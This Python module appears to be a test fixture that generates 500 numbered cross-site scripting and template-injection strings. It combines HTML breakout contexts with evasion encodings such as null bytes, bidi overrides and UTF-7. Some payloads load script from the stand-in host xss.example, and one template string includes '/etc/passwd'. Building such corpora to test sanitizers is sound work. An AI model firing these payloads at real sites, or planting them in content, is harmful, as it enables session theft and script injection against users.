"""Five hundred texts that want to run: what acts, put where a text may end up, in many spellings.

Each says who it is: if one runs, a dialog or a request names its number.
"""

import html
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

COUNT: Final = 500

VECTORS: Final = (
    "<script>alert({n})</script>",
    "<script src=//xss.example/{n}></script>",
    "<img src=x onerror=alert({n})>",
    "<img src=//xss.example/{n}>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><image href=//xss.example/{n} /></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=//xss.example/{n}>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=//xss.example/{n} autoplay>",
    "<marquee onstart=alert({n})>",
    "<style>@import '//xss.example/{n}';</style>",
    "<link rel=stylesheet href=//xss.example/{n}>",
    "<link rel=prefetch href=//xss.example/{n}>",
    "<meta http-equiv=refresh content='0;url=//xss.example/{n}'>",
    "<base href=//xss.example/{n}/>",
    "<form action=//xss.example/{n}><button autofocus>x</form>",
    "<a href=javascript:alert({n})>x</a>",
    "<p style=background:url(//xss.example/{n})>x</p>",
    "<template><script>alert({n})</script></template>",
    "<del><ins onanimationstart=alert({n}) style=animation-name:x>",
    "javascript:alert({n})",
    "{{{{ [].constructor.constructor('alert({n})')() }}}}",
    "{{% include '/etc/passwd' %}}{{{{ 7*{n} }}}}",
    "${{alert({n})}}",
    "' onmouseover=alert({n}) autofocus onfocus=alert({n}) x='",
    '" onmouseover=alert({n}) autofocus onfocus=alert({n}) x="',
)
"""What acts."""

CONTEXTS: Final = (
    "{}",
    "'>{}",
    '">{}',
    "</p>{}",
    "</ins></p></div></article>{}",
    "</details></section></main>{}",
    "</script>{}",
    "</style>{}",
    "</title>{}",
    "</option></select>{}",
    "</bdi></th></tr></table>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    "<!-- content -->{}",
    "</textarea></noscript></template>{}",
    "`;{}//",
)
"""What would have to be left for it to act."""

SPELLINGS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    str.upper,
    str.swapcase,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text),
    lambda text: "".join(f"&#x{ord(c):X}" if c in "<>\"'" else c for c in text),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: text.replace("script", "scr\x00ipt").replace("on", "o\x0cn"),
    lambda text: text.replace("script", "scr\u200dipt"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"\x1b]8;;{text}\x1b\\x\x1b]8;;\x1b\\",
    lambda text: f"\ud83d{text}\udcff",
    lambda text: f"+ADw-{text.strip('<>')}+AD4-",
)
"""How it may be written."""


def payloads() -> list[str]:
    """Combine vectors, contexts and spellings; each of them often, no combination twice."""
    total = len(VECTORS) * len(CONTEXTS) * len(SPELLINGS)
    found = []
    for n in range(COUNT):
        # A stride prime to all three counts walks through all of each.
        at = n * 3571 % total
        vector = VECTORS[at % len(VECTORS)].format(n=n)
        context = CONTEXTS[at // len(VECTORS) % len(CONTEXTS)]
        spelling = SPELLINGS[at // len(VECTORS) // len(CONTEXTS)]
        found.append(spelling(context.format(vector)))
    return found
